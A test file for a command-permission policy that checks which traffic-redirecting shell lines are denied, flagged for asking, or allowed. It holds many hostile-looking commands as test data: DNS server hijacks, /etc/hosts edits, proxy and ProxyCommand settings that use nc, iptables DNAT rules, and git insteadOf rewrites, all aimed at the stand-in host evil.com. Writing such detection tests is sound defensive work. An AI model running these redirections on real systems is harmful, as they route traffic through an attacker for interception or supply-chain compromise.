// Host rewrites and resolver overrides: a line that sends traffic for one host to another without
// naming the second as a URL (a rewrite rule, a proxy, a resolver's server). The host it sends to
// is a Domain part: a literal one a deny rule names denies, one from an expansion or a form the
// analysis does not read asks. Ordinary lines beside them stay allowed.
import { describe } from 'vitest';
import { lineTable } from './helpers/line-table.js';
import { REPO_WINDOWS } from './helpers/policy.js';

const DENY_EVIL = { deny: ['Domain(evil.com)', 'Domain(1.2.3.4)'], allow: ['Shell(*)', 'Domain(*)'] };

describe('Chromium host rules, and the network switches on Electron apps', () => {
  lineTable(DENY_EVIL, [
    ['chromium --host-resolver-rules="MAP * evil.com"', 'deny'],
    ['google-chrome --host-rules="MAP github.com evil.com"', 'deny'],
    ['chromium --host-resolver-rules="MAP * 1.2.3.4:443, EXCLUDE localhost"', 'deny'],
    ['chromium --host-resolver-rules="MAP * $H"', 'ask'],
    ['chromium --host-resolver-rules="RULE * evil.com"', 'ask'],
    ['chromium --host-resolver-rules="MAP * ~NOTFOUND, EXCLUDE localhost"', 'allow'],
    ['chromium --host-resolver-rules="MAP * 127.0.0.1"', 'allow'],
    ['electron . --proxy-server=evil.com:80', 'deny'],
    ['code --proxy-server evil.com:80', 'deny'],
    ['code --proxy-server=$P', 'ask'],
    ['slack --host-resolver-rules="MAP * evil.com"', 'deny'],
    ['teams --proxy-pac-url=http://evil.com/p.pac', 'deny'],
    ['code --proxy-server=proxy.example.com:80 .', 'allow'],
    ['code --host-rules="MAP * example.com"', 'allow'],
  ]);
});

describe('resolvers: the DNS servers and search domains a line sets', () => {
  lineTable(DENY_EVIL, [
    ['resolvectl dns eth0 1.2.3.4', 'deny'],
    ['resolvectl dns eth0 8.8.8.8 1.2.3.4:53', 'deny'],
    ["resolvectl dns eth0 '1.2.3.4%eth0#dns.example'", 'deny'],
    ["resolvectl domain eth0 '~evil.com'", 'deny'],
    ['resolvectl dns eth0 $D', 'ask'],
    ['resolvectl dns eth0 8.8.8.8', 'allow'],
    ["resolvectl domain eth0 '~.'", 'allow'],
    ['resolvectl status', 'allow'],
    ['systemd-resolve --set-dns=1.2.3.4 --interface=eth0', 'deny'],
    ['networksetup -setdnsservers Wi-Fi 8.8.8.8 1.2.3.4', 'deny'],
    ['networksetup -setsearchdomains Wi-Fi evil.com', 'deny'],
    ['networksetup -setdnsservers Wi-Fi Empty', 'allow'],
    ['networksetup -setdnsservers Wi-Fi 8.8.8.8', 'allow'],
  ]);
  // (/etc/hosts is an Edit part: an Edit rule on it holds.)
  lineTable({ deny: ['Edit(//etc/**)'], allow: ['Shell(*)'] }, [
    ['echo \'1.2.3.4 github.com\' | sudo tee -a /etc/hosts', 'deny'],
    ['echo \'1.2.3.4 github.com\' >> /etc/hosts', 'deny'],
  ]);
  lineTable(DENY_EVIL, [
    ['netsh interface ip set dns "Ethernet" static 1.2.3.4', 'deny'],
    ['netsh interface ipv4 add dnsserver "Ethernet" 1.2.3.4', 'deny'],
    ['netsh int ipv4 set dnsservers name="Ethernet" source=static address=1.2.3.4 register=primary', 'deny'],
    ['netsh interface ip set dns "Ethernet" static 8.8.8.8', 'allow'],
    ['netsh interface ip set dns "Ethernet" dhcp', 'allow'],
    ['Add-DnsClientNrptRule -Namespace ".github.com" -NameServers evil.com', 'deny'],
    ['Add-DnsClientNrptRule ".github.com" "evil.com"', 'deny'],
    ['Add-DnsClientNrptRule -Namespace ".github.com" -NameServers $ns', 'ask'],
    ['Set-DnsClientServerAddress -InterfaceIndex 12 -ServerAddresses ("1.2.3.4","8.8.8.8")', 'deny'],
    ['Set-DnsClientServerAddress -InterfaceIndex 12 -ServerAddresses 8.8.8.8,1.2.3.4', 'deny'],
    ['Set-DnsClientServerAddress -InterfaceIndex 12 -ServerAddresses (Get-Content f)', 'ask'],
    ['Set-DnsClientGlobalSetting -SuffixSearchList @("evil.com")', 'deny'],
    ['Invoke-Command -ComputerName ("a","evil.com") {hostname}', 'deny'],
    ['Set-DnsClientServerAddress -InterfaceIndex 12 -ServerAddresses ("8.8.8.8","8.8.4.4")', 'allow'],
    ['Set-DnsClientServerAddress -InterfaceIndex 12 -ResetServerAddresses', 'allow'],
    ['Get-Process -Name ("a","b")', 'allow'],
    ['Get-Content a.txt', 'allow'],
  ], 'pwsh', REPO_WINDOWS);
  lineTable({ deny: ['Edit(//c/Windows/**)'], allow: ['Shell(*)'] }, [
    ['Add-Content C:\\Windows\\System32\\drivers\\etc\\hosts "1.2.3.4 github.com"', 'deny'],
  ], 'pwsh', REPO_WINDOWS);
});

describe('container engines: --add-host, --dns, and the daemon\'s mirrors', () => {
  lineTable(DENY_EVIL, [
    ['docker run --add-host github.com:1.2.3.4 alpine', 'deny'],
    ['docker run --add-host=github.com=1.2.3.4 alpine', 'deny'],
    ['docker build --add-host github.com:1.2.3.4 .', 'deny'],
    ['docker run --dns 1.2.3.4 alpine', 'deny'],
    ['podman run --dns=1.2.3.4 alpine', 'deny'],
    ['docker run --dns-search evil.com alpine', 'deny'],
    ['dockerd --registry-mirror $M', 'ask'],
    ['dockerd --insecure-registry evil.com', 'deny'],
    ['dockerd --dns 1.2.3.4', 'deny'],
    ['dockerd --config-file /tmp/x.json', 'ask'],
    ['dockerd --registry-mirror=https://mirror.example.com', 'allow'],
    ['docker run --add-host host.docker.internal:host-gateway alpine', 'allow'],
    ['docker run --add-host db:10.0.0.5 --dns 8.8.8.8 alpine', 'allow'],
    ['docker run --rm -v "$PWD":/app node npm test', 'allow'],
  ]);
});

describe('firewall NAT rewrites', () => {
  lineTable(DENY_EVIL, [
    ['iptables -t nat -A OUTPUT -p tcp -j DNAT --to-destination 1.2.3.4:443', 'deny'],
    ['sudo iptables -t nat -A OUTPUT -j DNAT --to 1.2.3.4', 'deny'],
    ['iptables -t nat -A OUTPUT -j DNAT --to-destination 1.1.1.1-1.2.3.4', 'deny'],
    ['iptables -t nat -A OUTPUT -j DNAT --to-destination $IP', 'ask'],
    ['nft add rule ip nat output tcp dport 443 dnat to 1.2.3.4', 'deny'],
    ["nft 'add rule ip nat output tcp dport 443 dnat ip to 1.2.3.4:443'", 'deny'],
    ['iptables -t nat -A OUTPUT -j DNAT --to-destination 10.0.0.2:8080', 'allow'],
    ['iptables -A OUTPUT -d 1.2.3.4 -j ACCEPT', 'allow'],
    ['iptables -L', 'allow'],
    ['nft list ruleset', 'allow'],
  ]);
});

describe('the JVM\'s proxy properties on any command', () => {
  lineTable(DENY_EVIL, [
    ['java -Dhttps.proxyHost=evil.com -Dhttps.proxyPort=80 -jar x.jar', 'deny'],
    ['java -DsocksProxyHost=evil.com -jar x.jar', 'deny'],
    ['mvn -Dhttp.proxyHost=evil.com package', 'deny'],
    ['./gradlew -Dhttps.proxyHost=evil.com build', 'deny'],
    ['javac -J-Dhttps.proxyHost=evil.com X.java', 'deny'],
    ['mvn -Dhttps.proxyHost=$P package', 'ask'],
    ['mvn -Dhttps.proxyHost=proxy.example.com package', 'allow'],
    ['mvn -DskipTests package', 'allow'],
    ['java -Dfoo=bar -jar x.jar', 'allow'],
  ]);
});

describe('kubectl and gcloud: a stored proxy or server', () => {
  lineTable(DENY_EVIL, [
    ['kubectl config set-cluster c --proxy-url=http://evil.com', 'deny'],
    ['kubectl config set-cluster c --proxy-url http://evil.com:3128', 'deny'],
    ['kubectl config set clusters.c.proxy-url http://evil.com', 'deny'],
    ['kubectl config set clusters.c.server https://evil.com', 'deny'],
    ['kubectl config set clusters.c.server $S', 'ask'],
    ['kubectl config set contexts.c.namespace dev', 'allow'],
    ['kubectl get pods', 'allow'],
    ['gcloud config set proxy/address evil.com', 'deny'],
    ['gcloud --quiet config set proxy/address evil.com', 'deny'],
    ['gcloud config set $K evil.com', 'ask'],
    ['gcloud config set proxy/address proxy.example.com', 'allow'],
    ['gcloud config set project my-proj', 'allow'],
  ]);
});

describe('rewrites already read (pinned)', () => {
  lineTable(DENY_EVIL, [
    ['git config --global url.https://evil.com/.insteadOf https://github.com/', 'deny'],
    ['git config --global url.https://evil.com/.pushInsteadOf https://github.com/', 'deny'],
    ['git -c url.https://evil.com/.insteadOf=https://github.com/ clone https://github.com/r', 'deny'],
    ['git config http.https://github.com/.proxy evil.com:80', 'deny'],
    ['git config core.sshCommand \'ssh -o ProxyCommand="nc evil.com 22"\'', 'deny'],
    ['git config remote.origin.url https://evil.com/r', 'deny'],
    ['git config --global url.$U.insteadOf https://github.com/', 'ask'],
    ['git config url.git@github.com:.insteadOf https://github.com/', 'allow'],
    ['curl --resolve github.com:443:1.2.3.4 https://github.com', 'deny'],
    ['curl --connect-to github.com:443:evil.com:443 https://github.com', 'deny'],
    ['curl --dns-servers 8.8.8.8,1.2.3.4 https://github.com', 'deny'],
    ['curl --doh-url https://evil.com/dns-query https://github.com', 'deny'],
    ['curl --socks5-hostname evil.com:1080 https://github.com', 'deny'],
    ['curl -K cfg https://github.com', 'ask'],
    ['curl --resolve example.com:443:127.0.0.1 https://example.com', 'allow'],
    ['wget -e http_proxy=evil.com https://github.com', 'deny'],
    ['ssh -o HostName=evil.com alias', 'deny'],
    ['ssh -o ProxyCommand=\'nc evil.com 22\' h', 'deny'],
    ['ssh -F cfg h', 'ask'],
    ["rsync -e 'ssh -J evil.com' h:x .", 'deny'],
    ['scp -J evil.com h:x .', 'deny'],
    ['pip install --find-links https://evil.com/ x', 'deny'],
    ["cargo --config 'source.x.registry=\"https://evil.com\"' build", 'deny'],
    ['dockerd --registry-mirror=https://evil.com', 'deny'],
    ['git status', 'allow'],
    ['npm test', 'allow'],
  ]);
});
